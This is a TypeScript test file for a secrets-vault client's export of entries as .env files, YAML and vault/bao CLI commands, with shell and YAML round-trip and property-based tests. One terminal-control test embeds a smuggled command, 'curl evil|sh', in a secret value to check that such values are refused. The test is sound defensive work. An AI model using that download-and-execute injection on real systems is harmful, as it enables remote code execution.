/** Tests entries as `.env` with a real shell, and as YAML with a YAML parser. */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { itOnUnix } from '../../../build/testing/on-unix.ts';
import { AppFailure } from '../../../shared/ipc/result.ts';
import type { AppError } from '../../../shared/ipc/result.ts';
import { composeObject, plainEscapes } from '../../../shared/vault/json-slices.ts';
import type { Member } from '../../../shared/vault/json-slices.ts';
import type { MountPath } from '../../../shared/vault/mount.ts';
import { cliText } from './cli-text.ts';
import { hostileJson, hostileMembers, hostileTexts } from './entry-text.fixture.ts';
import { envText } from './env-text.ts';
import { yamlText } from './yaml-text.ts';

const folder = mkdtempSync(join(tmpdir(), 'strongroom-text-'));
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

/** The variables that a shell exports after reading a file of assignments. */
function readByShell(text: string): ReadonlyMap<string, string> {
  const file = join(folder, '.env');
  writeFileSync(file, text);
  const { stdout, stderr, status } = spawnSync('/bin/sh', ['-c', 'set -a; . ./.env; exec env -0'], {
    cwd: folder,
    encoding: 'utf8',
    env: { PATH: process.env['PATH'] ?? '', HOME: '/nowhere' },
  });
  expect([status, stderr], text).toEqual([0, '']);
  return new Map(
    stdout.split('\0').map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
  );
}

/** Parses YAML; integers keep every digit. */
function readYaml(text: string, version: '1.1' | '1.2' = '1.2'): Map<string, unknown> {
  const document = parseDocument(text, { intAsBigInt: true, version });
  expect(document.errors, text).toEqual([]);
  return document.toJS({ mapAsMap: true }) as Map<string, unknown>;
}

function refusalOf(act: () => unknown): AppError {
  try {
    act();
  } catch (failure) {
    if (failure instanceof AppFailure) return failure.error;
    throw failure;
  }
  throw new Error('it was not refused');
}

/** Characters that a `.env` file is refused for. */
const actsOnTerminal = /(?![\t\n])\p{Cc}/u;

const textMember = (key: string, text: string): Member => [key, JSON.stringify(text)];

describe('an entry as .env', () => {
  itOnUnix('a shell: what is copied or written for one is read back by one')(
    'is read by a shell letter for letter',
    () => {
      const sayable = Object.entries(hostileTexts).filter(([, value]) => !actsOnTerminal.test(value));
      const named = new Set([...sayable, ...Object.entries(hostileJson)].map(([key]) => key));
      const { text, warnings } = envText(hostileMembers.filter(([key]) => named.has(key)));
      expect(warnings).toEqual([]);
      const read = readByShell(text);
      for (const [key, value] of sayable) expect([key, read.get(key)]).toEqual([key, value]);
      for (const [key, json] of Object.entries(hostileJson))
        expect([key, read.get(key)]).toEqual([key, json]);
    },
  );

  itOnUnix('a shell: what is copied or written for one is read back by one')(
    'is read by a shell, whatever the values are',
    () => {
      const values = fc.array(
        fc.string({ unit: 'grapheme' }).filter((text) => !actsOnTerminal.test(text)),
        { maxLength: 8 },
      );
      fc.assert(
        fc.property(values, (all) => {
          const read = readByShell(envText(all.map((text, at) => textMember(`k${String(at)}`, text))).text);
          all.forEach((text, at) => {
            expect(read.get(`k${String(at)}`)).toBe(text);
          });
        }),
        { numRuns: 60 },
      );
    },
  );

  it('says which names had to change, and refuses what cannot be said', () => {
    const { text, warnings } = envText([
      textMember('tls.crt', 'x'),
      textMember('2fa', 'y'),
      textMember('é', 'z'),
    ]);
    expect(text).toBe('tls_crt=x\n_2fa=y\n_=z\n');
    expect(warnings).toEqual(['Not every name can be a variable: tls.crt → tls_crt, 2fa → _2fa, é → _.']);
    expect(refusalOf(() => envText([textMember('a-b', 'x'), textMember('a_b', 'y')])).message).toBe(
      'This entry cannot be a .env file: “a-b” and “a_b” would both be called a_b. Nothing was copied.',
    );
    expect(refusalOf(() => envText([textMember('', 'x')]))).toMatchObject({ kind: 'invalid-input' });
    const { message } = refusalOf(() => envText([textMember('k', 'secret\0')]));
    expect(message).toContain('NUL');
    expect(message).not.toContain('secret');
  });

  it('carries no character that acts on a terminal @attack-12', () => {
    const harmless = new Set(['\t', '\n']);
    const controls = Array.from({ length: 0xa1 }, (_, code) => String.fromCharCode(code)).filter((one) =>
      /\p{Cc}/u.test(one),
    );
    expect(controls).toHaveLength(65);
    for (const control of controls) {
      const made = (): string => envText([textMember('k', `secret${control}\ncurl evil|sh #`)]).text;
      if (harmless.has(control)) expect(made()).toContain(control);
      else {
        const { message } = refusalOf(made);
        expect(message).toMatch(/a NUL character|the control character U\+00[0-9A-F]{2}/);
        expect(message).not.toContain('secret');
      }
    }
  });
});

describe('an entry as YAML', () => {
  it('is read back letter for letter and digit for digit, by readers of both versions', () => {
    const read = readYaml(yamlText(hostileMembers));
    const old = readYaml(yamlText(hostileMembers), '1.1');
    for (const [key, value] of Object.entries(hostileTexts)) {
      expect([key, read.get(key)]).toEqual([key, value]);
      expect([key, old.get(key)]).toEqual([key, value]);
    }
    expect(read.get('large')).toBe(9007199254740993n);
    expect(read.get('fraction')).toBe(1.1);
    expect(read.get('yes')).toBe(true);
    expect(read.get('nil')).toBe(null);
    expect(read.get('nested')).toEqual(
      new Map<string, unknown>([
        ['10', 'ten'],
        ['2', new Map(Object.entries({ quote: '"', line: 'a\nb', emoji: '🔑', sep: '\u2028' }))],
      ]),
    );
  });

  it('keeps lines where they are lines, and names that are words', () => {
    const members = [textMember('tls.key', 'a\n\nb\n'), textMember('no', 'x'), textMember('two words', '')];
    expect(yamlText(members)).toBe('tls.key: |\n  a\n\n  b\n"no": "x"\n"two words": ""\n');
    expect(yamlText([])).toBe('{}\n');
  });

  it('is read back, whatever is in it', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.array(fc.constantFrom('a', ' ', '\n', '\t', '-', ':', '#', '\r', '"')).map((all) => all.join('')),
    );
    const value = fc.oneof(text, fc.jsonValue({ stringUnit: 'grapheme' }));
    const key = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('no', 'a.b', '__proto__', 'k'.repeat(1200)),
    );
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.tuple(key, value), { selector: ([name]) => name, maxLength: 5 }),
        (all) => {
          const members = all.map(([name, of]): Member => [name, JSON.stringify(of)]);
          const read = parseDocument(yamlText(members), { uniqueKeys: true });
          expect(read.errors).toEqual([]);
          const plain = read.toJS({ mapAsMap: true }) as Map<string, unknown>;
          expect([...plain.keys()]).toEqual(all.map(([name]) => name));
          for (const [name, of] of all) expect(asJson(plain.get(name))).toBe(JSON.stringify(of));
        },
      ),
    );
  });
});

/** Parsed data as JSON; maps become objects. */
function asJson(value: unknown): string {
  return JSON.stringify(value, (_, one: unknown) => (one instanceof Map ? asObject(one) : one));
}

function asObject(map: ReadonlyMap<unknown, unknown>): object {
  const object = Object.create(null) as Record<string, unknown>;
  for (const [key, value] of map) object[String(key)] = value;
  return object;
}

describe('an entry as a command', () => {
  const place = (path: string, engine: 'kv1' | 'kv2' | 'cubbyhole' = 'kv2') => ({
    mount: {
      path: (engine === 'cubbyhole' ? 'cubbyhole/' : 'team/kv/') as MountPath,
      type: 'kv',
      engine,
      description: '',
    },
    path,
  });
  const user = textMember('user', 'svc');

  it('names what is written, one word a key', () => {
    expect(cliText(place('a b'), [user, textMember('password', "it's")], 'vault')).toBe(
      "vault kv put -mount=team/kv 'a b' \\\n  user=svc \\\n  'password=it'\\''s'\n",
    );
    expect(cliText(place('x', 'cubbyhole'), [user], 'bao')).toBe('bao write cubbyhole/x \\\n  user=svc\n');
    expect(cliText(place('-x'), [user], 'vault')).toBe('vault kv put -mount=team/kv -- -x \\\n  user=svc\n');
  });

  it.each([
    ['a number', ['n', '42']],
    ['the sign of standard input', textMember('k', '-')],
    ['a name with an equals sign', textMember('a=b', 'x')],
    ['an escaped file', textMember('k', '\\@x')],
    ['a NUL', textMember('k', 'a\0b')],
  ] satisfies [string, Member][])('hands JSON over for %s', (_what, member) => {
    expect(cliText(place('x'), [user, member], 'vault')).toBe(
      `vault kv put -mount=team/kv x - <<'JSON'\n{"user":"svc",${composeObject([member]).slice(1)}\nJSON\n`,
    );
  });

  it('refuses a path that the tool would change', () => {
    expect(refusalOf(() => cliText(place('x '), [user], 'vault')).kind).toBe('not-offered');
  });
});

describe('the escapes of Go', () => {
  it('are read as what they stand for, and nothing else is touched', () => {
    expect(plainEscapes('{"a":"\\u003ca \\u0026 b\\u003E","b":"\\\\u003c","c":"\\u00e4\\n"}')).toBe(
      '{"a":"<a & b>","b":"\\\\u003c","c":"\\u00e4\\n"}',
    );
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const written = JSON.stringify(value).replace(
          /[<>&]/g,
          (one) => `\\u00${one.charCodeAt(0).toString(16)}`,
        );
        expect(plainEscapes(written)).toBe(JSON.stringify(value));
      }),
    );
  });
});
